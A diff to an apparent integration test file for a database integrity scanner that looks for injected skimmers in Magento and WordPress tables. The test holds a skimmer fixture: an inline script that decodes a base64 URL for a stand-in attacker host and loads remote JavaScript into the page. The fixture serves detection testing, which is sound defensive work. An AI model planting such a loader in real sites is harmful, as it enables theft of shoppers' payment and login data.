@@ -6,6 +6,7 @@
 
 import { test } from 'node:test';
 import assert from 'node:assert/strict';
+import { randomBytes } from 'node:crypto';
 import mysql from 'mysql2/promise';
 import pg from 'pg';
 import { MysqlShopDb } from '../../src/adapters/shopdb/mysql.ts';
@@ -13,14 +14,26 @@ import { PostgresShopDb } from '../../src/adapters/shopdb/postgres.ts';
 import { scanDatabase, tablesToScan } from '../../src/integrity/scandb.ts';
 import { loadCodeRules } from '../../src/integrity/scan/rules.ts';
 import { scanDbSchema } from '../../src/core/config/integrity.ts';
-import { mysqlSkip, mysqlUrl, pgAdminUrl, pgSkip, uniqueDbName } from '../helpers/db.ts';
+import { pgAdminUrl, pgSkip } from '../helpers/db.ts';
 
+const mysqlUrl = process.env['RIPCORD_TEST_MYSQL'] ?? 'mysql://root@127.0.0.1:3306/';
 const rules = loadCodeRules();
 const skimmer =
   '<script>var s=document.createElement("script");s.src=atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvai5qcw==");document.head.appendChild(s);</script>';
 
+async function mysqlSkip(): Promise<{ skip?: string }> {
+  try {
+    const c = await mysql.createConnection({ uri: mysqlUrl, connectTimeout: 3000 });
+    await c.end();
+    return {};
+  } catch (e) {
+    if (process.env['CI'] === 'true') return {};
+    return { skip: `MariaDB not reachable (${e instanceof Error ? e.message : String(e)})` };
+  }
+}
+
 test('scan-db finds a skimmer in Magento core_config_data and cms_block on MariaDB', await mysqlSkip(), async () => {
-  const name = uniqueDbName('ripcord_scan');
+  const name = `ripcord_scan_${randomBytes(5).toString('hex')}`;
   const admin = await mysql.createConnection({ uri: mysqlUrl, multipleStatements: true });
   await admin.query(`CREATE DATABASE ${name}`);
   try {
@@ -61,7 +74,7 @@ test('scan-db finds a skimmer in Magento core_config_data and cms_block on Maria
 });
 
 test('scan-db finds a skimmer in WordPress wp_posts on PostgreSQL', await pgSkip(), async () => {
-  const name = uniqueDbName('ripcord_scan');
+  const name = `ripcord_scan_${randomBytes(5).toString('hex')}`;
   const admin = new pg.Client({ connectionString: pgAdminUrl });
   await admin.connect();
   await admin.query(`CREATE DATABASE ${name}`);
